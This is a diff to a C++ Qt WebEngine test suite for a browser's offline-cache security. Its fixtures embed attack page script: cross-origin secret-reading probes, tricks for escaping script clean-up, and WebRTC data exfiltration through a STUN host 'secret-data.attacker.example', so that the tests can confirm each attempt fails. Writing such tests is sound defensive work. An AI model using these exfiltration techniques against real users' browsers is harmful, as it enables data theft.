@@ -10,12 +10,15 @@
 #include "support_web.h"
 
 #include <QApplication>
+#include <QBuffer>
 #include <QCheckBox>
 #include <QFile>
 #include <QHash>
+#include <QImage>
 #include <QJsonDocument>
 #include <QJsonObject>
 #include <QLabel>
+#include <QProcess>
 #include <QSignalSpy>
 #include <QStandardPaths>
 #include <QTcpServer>
@@ -26,6 +29,8 @@
 #include <QWebEngineScript>
 #include <QWebEngineSettings>
 #include <QtTest>
+
+#include <unistd.h>
 
 namespace {
 
@@ -91,6 +96,13 @@ quint16 closedPort()
     QTcpServer probe;
     probe.listen(QHostAddress::LocalHost);
     return probe.serverPort();
+}
+
+// An origin on this machine with no server: online, its pages are shown from the cache.
+QByteArray downOrigin()
+{
+    static const QByteArray origin = "http://127.0.0.1:" + QByteArray::number(closedPort());
+    return origin;
 }
 
 QVariant evaluate(QWebEnginePage *page, const QString &script)
@@ -219,15 +231,23 @@ private slots:
     void initTestCase();
     void init();
     void cleanup();
-    void sameOriginOnlyOffline();
+    void sameOriginOnlyInCachedCopies();
     void nothingLeavesTheMachine();
     void cachedPagesRunNoScriptUnlessAsked();
+    void offlinePagesRunNoScript_data();
+    void offlinePagesRunNoScript();
+    void cachedCopyWindowsStayInTheCache_data();
+    void cachedCopyWindowsStayInTheCache();
     void unreachableServerShowsCachedCopy_data();
     void unreachableServerShowsCachedCopy();
     void serverAnswerIsShownAsItIs();
     void cachedCopyOnlineKeepsCacheRules();
     void switchingStateReloads();
     void cachedCopyLeadsOnlyToTheCache();
+    void serverHoldsNoIdleConnections();
+    void serverAnswersOnlyThisUser_data();
+    void serverAnswersOnlyThisUser();
+    void otherOriginsSheetsRenderOffline();
 
 private:
     QTemporaryDir m_config;
@@ -258,8 +278,11 @@ void TestOfflineSecurity::cleanup()
     SetOffline(false);
 }
 
-void TestOfflineSecurity::sameOriginOnlyOffline()
+// Script runs only in a cached copy shown online; the cache's rules are those of offline pages.
+void TestOfflineSecurity::sameOriginOnlyInCachedCopies()
 {
+    SetOffline(false);
+    const QByteArray evil = downOrigin();
     m_browser->setOfflineScript(true);
     m_cache->add("http://victim.test/secret.txt", "victim secret");
     m_cache->add("http://victim.test/pic.png",
@@ -268,13 +291,15 @@ void TestOfflineSecurity::sameOriginOnlyOffline()
     m_cache->add("http://victim.test/style.css", "body { border-top: 3px dotted red }");
     m_cache->add("http://victim.test/lib.js", "window.victimScript = 'victim';");
     m_cache->add("http://victim.test/frame.htm", "<body>victim frame</body>");
-    m_cache->add("http://evil.test/own.txt", "own text");
-    m_cache->add("http://evil.test/page.htm", QByteArray(kProbeRunner) + R"(
+    m_cache->add(evil + "/own.txt", "own text");
+    m_cache->add(evil + "/page.htm",
+                 QByteArray(kProbeRunner) + R"(
 <body><script>
 Promise.all([
   record('own xhr', xhr('own.txt')),
   record('own fetch', get('own.txt')),
-  record('own absolute fetch', get('http://evil.test/own.txt')),
+  record('own absolute fetch', get(')"
+                     + evil + R"(/own.txt')),
   record('xhr http', xhr('http://victim.test/secret.txt')),
   record('xhr mirror', xhr('twhttp://victim.test/secret.txt')),
   record('fetch http', get('http://victim.test/secret.txt')),
@@ -287,7 +312,8 @@ Promise.all([
   record('frame', frame('http://victim.test/frame.htm')),
 ]).then(finish);
 </script></body>)");
-    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    QVERIFY(load(*m_browser, QString::fromUtf8(evil + "/page.htm")));
+    QVERIFY(IsCacheScheme(m_browser->page()->url()));
     const QJsonObject probes = probeResults(m_browser->page());
     QVERIFY2(!probes.isEmpty(), "the page's probes did not finish");
     const QString all = QString::fromUtf8(QJsonDocument(probes).toJson(QJsonDocument::Compact));
@@ -315,13 +341,15 @@ Promise.all([
 
 void TestOfflineSecurity::nothingLeavesTheMachine()
 {
+    SetOffline(false);
+    const QByteArray evil = downOrigin();
     m_browser->setOfflineScript(true);
     Listeners listeners;
     QVERIFY(listeners.tcp.isListening());
     const QByteArray tcp = listeners.tcpAddress();
     const QByteArray udp = listeners.udpAddress();
-    m_cache->add("http://evil.test/plain.htm", "<p>plain</p>");
-    m_cache->add("http://evil.test/page.htm",
+    m_cache->add(evil + "/plain.htm", "<p>plain</p>");
+    m_cache->add(evil + "/page.htm",
                  QByteArray(kProbeRunner) + R"(
 <head><link rel="dns-prefetch" href="//dns.)"
                      + tcp + R"("><link rel="prefetch" href="http://)" + tcp + R"(/prefetch">
@@ -371,7 +399,7 @@ const viaObject = new Promise((ok, fail) => {
   const before = window.length;
   const o = document.createElement('object');
   o.type = 'text/html';
-  o.data = 'http://evil.test/plain.htm';
+  o.data = ')" + evil + R"(/plain.htm';
   document.body.appendChild(o);
   const started = Date.now();
   (function poll() {
@@ -414,7 +442,8 @@ Promise.all([
   settle(3000),
 ]).then(finish);
 </script></body>)");
-    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    QVERIFY(load(*m_browser, QString::fromUtf8(evil + "/page.htm")));
+    QVERIFY(IsCacheScheme(m_browser->page()->url()));
     const QJsonObject probes = probeResults(m_browser->page());
     QVERIFY2(!probes.isEmpty(), "the page's probes did not finish");
     QTest::qWait(1000);
@@ -434,13 +463,15 @@ Promise.all([
 
 void TestOfflineSecurity::cachedPagesRunNoScriptUnlessAsked()
 {
-    m_cache->add("http://evil.test/page.htm",
-                 "<title>as cached</title><body><script>document.title = 'script ran';</script></body>");
+    const QByteArray page = "<title>as cached</title><body><script>document.title = 'script ran';</script></body>";
+    m_cache->add("http://evil.test/page.htm", page);
+    m_cache->add(downOrigin() + "/page.htm", page);
     QVERIFY(!m_browser->offlineScript()); // the default
     QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
     QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached"));
 
-    // The user's choice in the Internet options.
+    // The user's choice in the Internet options: it lets cached copies shown online run
+    // their script, never a page offline.
     m_browser->internetOptions();
     InternetOptionsDialog *options = m_browser->optionsDialog();
     QVERIFY(options);
@@ -450,7 +481,99 @@ void TestOfflineSecurity::cachedPagesRunNoScriptUnlessAsked()
     options->accept();
     QVERIFY(m_browser->offlineScript());
     QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    QTest::qWait(500);
+    QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached"));
+    SetOffline(false);
+    QVERIFY(load(*m_browser, QString::fromUtf8(downOrigin() + "/page.htm")));
+    QVERIFY(IsCacheScheme(m_browser->page()->url()));
     QTRY_COMPARE_WITH_TIMEOUT(m_browser->page()->title(), QStringLiteral("script ran"), kLoadTimeout);
+}
+
+// Ways a page's own script outwits any clean-up done by script, each used to send data out
+// through a peer connection (a STUN name look-up and a TURN connection). Offline, with the
+// user's leave to run script in cached pages, none of them runs.
+void TestOfflineSecurity::offlinePagesRunNoScript_data()
+{
+    QTest::addColumn<QByteArray>("attack"); // script that sets `w` to a window with peers
+    QTest::newRow("builtins redefined first")
+        << QByteArray("Object.defineProperty = () => {}; const f = document.createElement('iframe');"
+                      "document.body.appendChild(f); const w = f.contentWindow;");
+    QTest::newRow("frame in a shadow root")
+        << QByteArray("const host = document.createElement('div'); document.body.append(host);"
+                      "host.attachShadow({mode: 'closed'}).innerHTML = '<iframe name=\"hid\"></iframe>';"
+                      "const w = window.open('', 'hid');");
+    QTest::newRow("frame and script written together")
+        << QByteArray("document.write('<iframe name=\"wr\"></iframe><script>window.w = wr;<\\/script>');");
+}
+
+void TestOfflineSecurity::offlinePagesRunNoScript()
+{
+    QFETCH(QByteArray, attack);
+    m_browser->setOfflineScript(true);
+    Listeners listeners;
+    m_cache->add("http://evil.test/page.htm",
+                 R"(<title>as cached</title><body><script>
+)" + attack + R"(
+const p = new (w || window).RTCPeerConnection({iceServers: [
+  {urls: 'stun:)" + listeners.udpAddress()
+                     + R"('}, {urls: 'stun:secret-data.attacker.example'},
+  {urls: 'turn:)" + listeners.tcpAddress()
+                     + R"(?transport=tcp', username: 'u', credential: 'c'}]});
+p.createDataChannel('leak');
+p.createOffer().then(o => p.setLocalDescription(o));
+document.title = 'script ran';
+</script></body>)");
+    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    QTest::qWait(2000);
+    QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached"));
+    QCOMPARE(listeners.connections(), 0);
+    QVERIFY(!listeners.datagrams());
+}
+
+// A cached copy shown online opens new windows (a link or form aimed at a new window, or
+// script) only from the cache.
+void TestOfflineSecurity::cachedCopyWindowsStayInTheCache_data()
+{
+    QTest::addColumn<bool>("script");
+    QTest::addColumn<QString>("open"); // run in a world of its own, as a click would
+    QTest::newRow("link") << false << "document.getElementById('link').click()";
+    QTest::newRow("form") << false << "document.getElementById('form').submit()";
+    QTest::newRow("window.open") << true << "document.getElementById('button').click()";
+}
+
+void TestOfflineSecurity::cachedCopyWindowsStayInTheCache()
+{
+    QFETCH(bool, script);
+    QFETCH(QString, open);
+    SetOffline(false);
+    m_browser->setOfflineScript(script);
+    Listeners listeners;
+    const QByteArray live = "http://" + listeners.tcpAddress() + "/next.htm";
+    m_cache->add(live, "<p id=\"t\">next, cached</p>");
+    m_cache->add(downOrigin() + "/page.htm",
+                 "<a id=\"link\" target=\"_blank\" href=\"" + live
+                     + "\">link</a><form id=\"form\" target=\"_blank\" "
+                       "method=\"post\" action=\""
+                     + live
+                     + "\"></form><button id=\"button\" "
+                       "onclick=\"window.open('"
+                     + live + "')\">open</button>");
+    Browser second;
+    second.resize(400, 300);
+    second.setCacheLookup(m_cache->lookup());
+    Browser *opened = &second;
+    connect(m_browser.get(), &Browser::NewWindow2, this, [&opened](Browser **target) { *target = opened; });
+    QVERIFY(load(*m_browser, QString::fromUtf8(downOrigin() + "/page.htm")));
+    QVERIFY(IsCacheScheme(m_browser->page()->url()));
+    QSignalSpy loaded(&second, &Browser::loadFinished);
+    evaluate(m_browser->page(), open);
+    QVERIFY(loaded.wait(kLoadTimeout));
+    QCOMPARE(FromCacheScheme(second.page()->url()), QUrl(QString::fromUtf8(live)));
+    QVERIFY(IsCacheScheme(second.page()->url()));
+    QCOMPARE(evaluate(second.page(), "document.getElementById('t').textContent").toString(),
+             QStringLiteral("next, cached"));
+    QVERIFY(second.cachedCopyNote()->isVisibleTo(&second));
+    QCOMPARE(listeners.connections(), 0);
 }
 
 void TestOfflineSecurity::unreachableServerShowsCachedCopy_data()
@@ -575,6 +698,109 @@ void TestOfflineSecurity::cachedCopyLeadsOnlyToTheCache()
     QVERIFY(IsCacheScheme(m_browser->page()->url()));
     QCOMPARE(m_browser->page()->title(), QStringLiteral("as cached")); // the cache's script rights
     QCOMPARE(listeners.connections(), 0);
+}
+
+void TestOfflineSecurity::serverHoldsNoIdleConnections()
+{
+    auto connectTo = [](const CrossOriginServer &server) {
+        auto client = std::make_unique<QTcpSocket>();
+        client->connectToHost(QHostAddress::LocalHost, server.serverPort());
+        return client->waitForConnected(5000) ? std::move(client) : nullptr;
+    };
+    // Beyond the limit a connection is closed at once; those within it stay.
+    CrossOriginServer few;
+    few.setLimits(2, 600000);
+    std::vector<std::unique_ptr<QTcpSocket>> held;
+    for (int i = 0; i < 3; ++i) {
+        held.push_back(connectTo(few));
+        QVERIFY(held.back());
+    }
+    QTRY_COMPARE(held[2]->state(), QAbstractSocket::UnconnectedState);
+    QCOMPARE(held[0]->state(), QAbstractSocket::ConnectedState);
+    QCOMPARE(held[1]->state(), QAbstractSocket::ConnectedState);
+
+    // A request head that never ends loses its connection.
+    CrossOriginServer slow;
+    slow.setLimits(8, 300);
+    const auto client = connectTo(slow);
+    QVERIFY(client);
+    client->write("GET /");
+    QTRY_COMPARE(client->state(), QAbstractSocket::UnconnectedState);
+}
+
+void TestOfflineSecurity::serverAnswersOnlyThisUser_data()
+{
+    QTest::addColumn<bool>("otherUser");
+    QTest::addColumn<bool>("answered");
+    QTest::newRow("this user") << false << true;
+    QTest::newRow("another user") << true << false;
+}
+
+void TestOfflineSecurity::serverAnswersOnlyThisUser()
+{
+    QFETCH(bool, otherUser);
+    QFETCH(bool, answered);
+    if (otherUser && ::geteuid() != 0)
+        QSKIP("connecting as another user needs root");
+    CrossOriginServer server;
+    m_cache->add("http://victim.test/secret.txt", "victim secret");
+    server.setLookup(m_cache->lookup());
+    // A client that knows the address, secret included.
+    const QByteArray request = "GET "
+        + server.addressFor(QUrl(QStringLiteral("http://victim.test/secret.txt")))
+              .toEncoded(QUrl::RemoveScheme | QUrl::RemoveAuthority)
+        + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
+    // The client is a shell of its own, run as the user asked for.
+    const QString script =
+        QStringLiteral("exec 3<>/dev/tcp/127.0.0.1/%1 && printf '%2' >&3 && timeout 10 cat <&3")
+            .arg(server.serverPort())
+            .arg(QString::fromLatin1(request).replace(QLatin1String("\r\n"), QLatin1String("\\r\\n")));
+    QProcess client;
+    if (otherUser)
+        client.start(QStringLiteral("setpriv"),
+                     {QStringLiteral("--reuid=65534"), QStringLiteral("--regid=65534"),
+                      QStringLiteral("--clear-groups"), QStringLiteral("bash"), QStringLiteral("-c"), script});
+    else
+        client.start(QStringLiteral("bash"), {QStringLiteral("-c"), script});
+    QVERIFY(client.waitForStarted());
+    QTRY_COMPARE_WITH_TIMEOUT(client.state(), QProcess::NotRunning, 20000);
+    QCOMPARE(client.readAllStandardOutput().contains("victim secret"), answered);
+}
+
+// Another origin's style sheet, offline: its relative and root-relative url() and its font
+// show as they did online.
+void TestOfflineSecurity::otherOriginsSheetsRenderOffline()
+{
+    QFile font(QStringLiteral("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"));
+    if (!font.open(QIODevice::ReadOnly))
+        QSKIP("no DejaVu Sans to cache");
+    QImage picture(7, 5, QImage::Format_RGB32);
+    picture.fill(Qt::red);
+    QByteArray png;
+    QBuffer buffer(&png);
+    buffer.open(QIODevice::WriteOnly);
+    QVERIFY(picture.save(&buffer, "PNG"));
+    m_cache->add("http://victim.test/css/img/relative.png", png);
+    m_cache->add("http://victim.test/img/root.png", png);
+    m_cache->add("http://victim.test/css/fonts/sans.ttf", font.readAll());
+    m_cache->add("http://victim.test/css/site.css",
+                 "#relative { content: url(img/relative.png) } #root { content: url(/img/root.png) }\n"
+                 "@font-face { font-family: Cached; src: url(fonts/sans.ttf) }\n"
+                 "#font { font-family: Cached, monospace; font-size: 40px }");
+    m_cache->add("http://evil.test/page.htm",
+                 "<link rel=\"stylesheet\" href=\"http://victim.test/css/site.css\"><body>"
+                 "<p><span id=\"relative\"></span></p><p><span id=\"root\"></span></p>"
+                 "<p><span id=\"font\">iiiiiiii</span></p>"
+                 "<p><span id=\"mono\" style=\"font-family: monospace; font-size: 40px\">iiiiiiii</span></p>");
+    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
+    auto width = [this](const char *id) {
+        return evaluate(m_browser->page(),
+                        QStringLiteral("document.getElementById('%1').getBoundingClientRect().width").arg(id))
+            .toDouble();
+    };
+    QTRY_COMPARE_WITH_TIMEOUT(width("relative"), 7.0, 10000);
+    QTRY_COMPARE_WITH_TIMEOUT(width("root"), 7.0, 10000);
+    QTRY_VERIFY_WITH_TIMEOUT(width("font") < width("mono") * 0.7, 10000);
 }
 
 int main(int argc, char *argv[])
